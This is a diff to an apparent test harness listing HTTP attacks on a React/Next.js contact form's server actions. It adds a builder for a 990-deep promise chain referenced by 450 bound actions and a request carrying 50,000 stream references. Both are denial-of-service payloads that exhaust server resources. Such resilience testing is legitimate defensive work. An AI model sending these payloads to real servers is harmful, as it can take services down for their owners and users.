@@ -35,6 +35,15 @@ const nested = (size: number) => "[".repeat(size / 2) + "]".repeat(size / 2);
 const part = (name: string, text = "") =>
   `--x\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${text}\r\n`;
 
+/** React walks a chain of 990 promises again for each of 450 bound actions at its head. */
+function buildPromises(id: string): string {
+  const links = Array.from({ length: 990 }, (_, at) => (at + 2).toString(16));
+  const chain = links.map((_, at) => part(`${at + 2}`, links[at + 1] ? `"$@${links[at + 1]}"` : "[]"));
+  const bound = Array.from({ length: 450 }, () => ({ id, bound: "$@2" }));
+  const first = [links.map((link) => `$${link}`), ...bound.map((_, at) => `$h1:${at}`)];
+  return `${chain.join("")}${part("1", JSON.stringify(bound))}${part("0", JSON.stringify(first))}--x--\r\n`;
+}
+
 const application = (resume: string, fields = "") =>
   `{"firstName":"Ada","lastName":"Lovelace","email":"ada@example.com","phone":"5035550100"${fields},"resume":${resume}}`;
 
@@ -68,6 +77,23 @@ export const attacks: readonly Attack[] = [
     pipeline: 4,
     buildRequest: ({ origin, actionId }) =>
       post("/contact", "text/plain", nested(126 * KB), `Next-Action: ${actionId}\r\n${sameSite(origin)}`),
+  },
+  {
+    name: "a server action whose arguments are promises of each other",
+    pipeline: 4,
+    buildRequest: ({ origin, actionId }) =>
+      post("/contact", FORM_TYPE, buildPromises(actionId), `Next-Action: ${actionId}\r\n${sameSite(origin)}`),
+  },
+  {
+    name: "a server action with streams as arguments",
+    pipeline: 4,
+    buildRequest: ({ origin, actionId }) =>
+      post(
+        "/contact",
+        "text/plain",
+        JSON.stringify(Array.from({ length: 50_000 }, (_, index) => `$R${index.toString(16)}`)),
+        `Next-Action: ${actionId}\r\n${sameSite(origin)}`,
+      ),
   },
   {
     name: "a form of two thousand empty fields",
